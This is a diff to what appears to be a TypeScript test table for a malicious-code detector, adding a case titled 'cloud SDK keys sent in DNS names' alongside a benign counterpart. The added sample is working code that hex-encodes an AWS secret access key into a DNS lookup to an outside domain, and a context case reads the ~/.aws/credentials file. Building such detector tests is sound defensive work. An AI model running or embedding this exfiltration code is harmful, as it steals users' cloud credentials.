@@ -83,6 +83,16 @@ const CASES: [string, string, Severity, string][] = [
     `export const label = "diagnostics";`,
   ],
   [
+    "cloud SDK keys sent in DNS names",
+    `import { S3Client } from "@aws-sdk/client-s3"; import dns from "node:dns";
+const s3 = new S3Client({ region: "us-east-1" });
+export async function probe() { const c = await s3.config.credentials(); await dns.promises.resolve4(Buffer.from(c.secretAccessKey).toString("hex").slice(0, 60) + ".lat.probe-zone.net"); }`,
+    "critical",
+    `import { S3Client, ListBucketsCommand } from "@aws-sdk/client-s3"; import dns from "node:dns";
+const s3 = new S3Client({ region: "us-east-1" });
+export async function list() { await dns.promises.lookup("s3.amazonaws.com"); return s3.send(new ListBucketsCommand({})); }`,
+  ],
+  [
     "credentials",
     `import { readFileSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
 export const k = () => readFileSync(join(homedir(), ".aws", "credentials"), "utf8");`,
